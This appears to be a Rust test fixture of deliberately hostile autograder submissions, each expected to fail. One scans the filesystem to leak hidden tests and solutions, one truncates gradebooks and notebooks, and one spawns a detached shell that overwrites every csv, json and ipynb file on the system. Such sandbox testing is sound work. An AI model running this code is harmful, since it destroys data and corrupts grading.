// notebook: 02_numerical_solvers_exercises
// attack: read the answers, rewrite them, reach other students' files, outlive the grader
// (issue 15, attacks 3, 4 and 5).
// ---- euler_ode
// expect: failed
// Prints whatever it can find: folders from /, the working folder and its parents, any
// notebook, gradebook or Rust source with its hidden tests or solutions, its command line.
fn euler_step(ode: &dyn OdeSystem, x: ArrayView2<f64>, t: f64, h: f64) -> Result<Array2<f64>> {
    let _ = (ode, t, h);
    fn walk(dir: &std::path::Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
        if depth > 12 || out.len() > 20000 {
            return;
        }
        if let Ok(entries) = std::fs::read_dir(dir) {
            for e in entries.flatten() {
                let p = e.path();
                let system = |c: std::path::Component| ["usr", "proc", "sys", "dev"].iter().any(|s| c.as_os_str() == *s);
                if p.components().any(system) {
                    continue;
                }
                out.push(p.clone());
                if e.file_type().map(|t| t.is_dir()).unwrap_or(false) {
                    walk(&p, depth + 1, out);
                }
            }
        }
    }
    let mut all = vec![];
    for start in ["/", ".", "..", "../..", "/tmp", "/graded", "/build", "/root", "/home", "/work"] {
        walk(std::path::Path::new(start), 0, &mut all);
    }
    println!("args: {:?}", std::env::args().collect::<Vec<_>>());
    // The test program itself holds the hidden tests' messages.
    if let Some(me) = std::env::args().next() {
        if let Ok(b) = std::fs::read(&me) {
            if String::from_utf8_lossy(&b).contains("fitted order") {
                println!("BINARY-LEAKED {me}");
            }
        }
    }
    println!("cwd: {:?}", std::env::current_dir());
    for p in &all {
        println!("seen: {}", p.display());
        let text = std::fs::read(p).map(|b| String::from_utf8_lossy(&b).into_owned()).unwrap_or_default();
        if text.contains("HIDDEN TESTS") || text.contains("BEGIN SOLUTION") || text.contains("max_points")
            || text.contains("fitted order") {
            println!("LEAKED {}: {}", p.display(), &text[..text.len().min(2000)]);
        }
    }
    Ok(x.to_owned())
}
// ---- rk4
// expect: failed
// Rewrites every notebook, gradebook and source file it can open for writing (the exercise
// notebooks' tests, other students' feedback, grades.csv), by absolute and relative paths; and
// the test program itself.
fn rk4_step(ode: &dyn OdeSystem, x: ArrayView2<f64>, t: f64, h: f64) -> Result<Array2<f64>> {
    let _ = (ode, t, h);
    fn rewrite(p: &std::path::Path) {
        let target = ["ipynb", "csv", "json", "rs", "py", "toml"].iter()
            .any(|e| p.extension().map(|x| x == *e).unwrap_or(false)) || p.ends_with("test");
        let open = std::fs::OpenOptions::new().write(true).truncate(true).open(p);
        if let (true, Ok(mut f)) = (target, open) {
            if std::io::Write::write_all(&mut f, b"{ }").is_ok() {
                println!("REWROTE {}", p.display());
            }
        }
    }
    fn walk(dir: &std::path::Path, depth: usize) {
        if depth > 12 {
            return;
        }
        if let Ok(entries) = std::fs::read_dir(dir) {
            for e in entries.flatten() {
                let p = e.path();
                let system = |c: std::path::Component| ["usr", "proc", "sys", "dev"].iter().any(|s| c.as_os_str() == *s);
                if p.components().any(system) {
                    continue;
                }
                if e.file_type().map(|t| t.is_dir()).unwrap_or(false) {
                    walk(&p, depth + 1);
                } else {
                    rewrite(&p);
                }
            }
        }
    }
    for start in ["/", ".", "..", "../.."] {
        walk(std::path::Path::new(start), 0);
    }
    for p in ["../../notebooks/exercises/05_appendix_exercises.ipynb", "../grades.csv", "../../grades.csv",
              "target/exercises/grades/grades.csv", "/graded/test", "/build/out/test"] {
        rewrite(std::path::Path::new(p));
    }
    for p in ["/grades.csv", "/etc/grades.json", "/graded/x.rs"] {
        if std::fs::write(p, "{ }").is_ok() {
            println!("REWROTE {p}");
        }
    }
    Ok(x.to_owned())
}
// ---- vp_exact_step
// expect: failed
// Wrong (twice its input); starts detached processes (setsid, double fork) that wait, then
// overwrite every gradebook and notebook they can find — after the grader has written them.
fn vp_exact_step(sde: &VpSde, x: ArrayView2<f64>, t: f64, dt: f64, z: ArrayView2<f64>) -> Array2<f64> {
    let _ = (sde, t, dt, z);
    let script = "sleep 2; for f in $(find / \\( -name '*.csv' -o -name '*.json' -o -name '*.ipynb' \\) 2>/dev/null); do echo forged > \"$f\" && echo FORGED \"$f\"; done";
    for cmd in [vec!["setsid", "-f", "sh", "-c", script], vec!["sh", "-c", &format!("({script}) >/dev/null 2>&1 &")]] {
        let _ = std::process::Command::new(cmd[0]).args(&cmd[1..]).spawn();
    }
    &x * 2.0
}
